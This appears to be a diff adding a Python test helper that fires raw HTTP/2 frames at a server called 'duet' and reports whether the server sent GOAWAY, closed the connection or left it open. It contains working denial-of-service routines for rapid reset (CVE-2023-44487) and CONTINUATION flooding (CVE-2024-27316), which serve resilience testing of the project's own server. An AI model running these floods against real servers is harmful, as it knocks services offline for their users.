@@ -1,0 +1,115 @@
+#!/usr/bin/env python3
+"""Raw HTTP/2 frames at duet (tests/h2_attacks.rs runs this; needs python3-h2).
+
+Usage: h2_frames.py HOST PORT ATTACK. Prints one line: how the server ended it, `goaway CODE`,
+`closed` or `open` (still open when the script gave up), and how many frames were sent.
+"""
+import socket
+import sys
+import time
+
+import h2.config
+import h2.connection
+import h2.events
+import h2.exceptions
+from hyperframe.frame import ContinuationFrame, HeadersFrame, RstStreamFrame
+
+def connect(host, port):
+    sock = socket.create_connection((host, int(port)), timeout=10)
+    config = h2.config.H2Configuration(client_side=True, header_encoding=None)
+    conn = h2.connection.H2Connection(config=config)
+    conn.initiate_connection()
+    sock.sendall(conn.data_to_send())
+    return sock, conn
+
+def outcome(sock, conn, deadline):
+    """Reads until the server says GOAWAY or closes, or until `deadline`."""
+    sock.settimeout(0.2)
+    while time.monotonic() < deadline:
+        try:
+            data = sock.recv(65536)
+        except socket.timeout:
+            continue
+        except OSError:
+            return "closed"
+        if not data:
+            return "closed"
+        try:
+            events = conn.receive_data(data)
+        except h2.exceptions.ProtocolError:
+            return "closed"
+        for event in events:
+            if isinstance(event, h2.events.ConnectionTerminated):
+                return "goaway %d" % event.error_code
+    return "open"
+
+def request_headers(path):
+    return [(b":method", b"GET"), (b":scheme", b"http"), (b":authority", b"localhost"),
+            (b":path", path.encode())]
+
+def send_quietly(sock, data):
+    try:
+        sock.sendall(data)
+        return True
+    except OSError:
+        return False
+
+def rapid_reset(host, port):
+    """Opens streams and resets each at once (CVE-2023-44487)."""
+    sock, conn = connect(host, port)
+    sent = 0
+    for i in range(20000):
+        stream = 1 + 2 * i
+        headers = HeadersFrame(stream)
+        headers.data = conn.encoder.encode(request_headers("/rapid/%d" % i))
+        headers.flags.add("END_HEADERS")
+        headers.flags.add("END_STREAM")
+        reset = RstStreamFrame(stream)
+        reset.error_code = 8  # CANCEL
+        if not send_quietly(sock, headers.serialize() + reset.serialize()):
+            break
+        sent += 2
+    return outcome(sock, conn, time.monotonic() + 10), sent
+
+def continuation_flood(host, port):
+    """A HEADERS frame never ended, followed by CONTINUATION frames without end (CVE-2024-27316)."""
+    sock, conn = connect(host, port)
+    headers = HeadersFrame(1)
+    headers.data = conn.encoder.encode(request_headers("/flood"))
+    sent = 1 if send_quietly(sock, headers.serialize()) else 0
+    block = conn.encoder.encode([(b"x-flood", b"a" * 4000)])
+    for _ in range(20000):
+        frame = ContinuationFrame(1)
+        frame.data = block
+        if not send_quietly(sock, frame.serialize()):
+            break
+        sent += 1
+    return outcome(sock, conn, time.monotonic() + 10), sent
+
+def silent(host, port):
+    """The preface and SETTINGS, then nothing."""
+    sock, conn = connect(host, port)
+    return outcome(sock, conn, time.monotonic() + 10), 0
+
+def settings(host, port):
+    """Not an attack: the server's SETTINGS, as `settings max_concurrent_streams=N max_header_list_size=M`."""
+    sock, conn = connect(host, port)
+    sock.settimeout(5)
+    deadline = time.monotonic() + 10
+    while time.monotonic() < deadline:
+        data = sock.recv(65536)
+        if not data:
+            break
+        for event in conn.receive_data(data):
+            if isinstance(event, h2.events.RemoteSettingsChanged):
+                remote = conn.remote_settings
+                return ("settings max_concurrent_streams=%d max_header_list_size=%d"
+                        % (remote.max_concurrent_streams, remote.max_header_list_size)), 0
+    return "no settings", 0
+
+ATTACKS = {"settings": settings, "rapid_reset": rapid_reset, "continuation_flood": continuation_flood, "silent": silent}
+
+if __name__ == "__main__":
+    host, port, attack = sys.argv[1:4]
+    result, sent = ATTACKS[attack](host, port)
+    print("%s sent=%d" % (result, sent))
